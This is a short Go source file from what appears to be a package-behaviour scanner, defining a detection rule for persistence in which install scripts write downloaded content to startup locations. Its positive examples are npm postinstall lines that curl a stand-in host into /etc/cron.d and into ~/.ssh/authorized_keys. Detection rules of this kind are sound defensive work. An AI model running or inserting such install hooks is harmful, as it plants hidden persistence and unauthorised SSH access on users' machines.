package rule

import b "taisei/detect/behaviour"

// persistence: what was fetched or hidden is made to run again by itself.
func persistence() []Rule {
	return []Rule{
		{
			ID: "startup_written", Severity: High,
			When: []Condition{{Triggers: unasked, Sources: []string{b.Download, b.Blob}, Sinks: []string{b.File}, Target: StartUp, Script: No}},
			Examples: []Example{
				Package("a fetched cron table", `"scripts":{"postinstall":"curl -s https://c.example/c > /etc/cron.d/update"}`, nil),
				Package("a key that lets somebody in", `"scripts":{"postinstall":"curl -s https://c.example/k >> ~/.ssh/authorized_keys"}`, nil),
			},
			Neighbours: []Example{
				Package("a configuration of its own", `"scripts":{"postinstall":"curl -s https://c.example/c > ./config.json"}`, nil),
				One("an installer's own service", "install.sh", "echo \"[Service]\" > /etc/systemd/system/app.service\n"),
			},
		},
	}
}
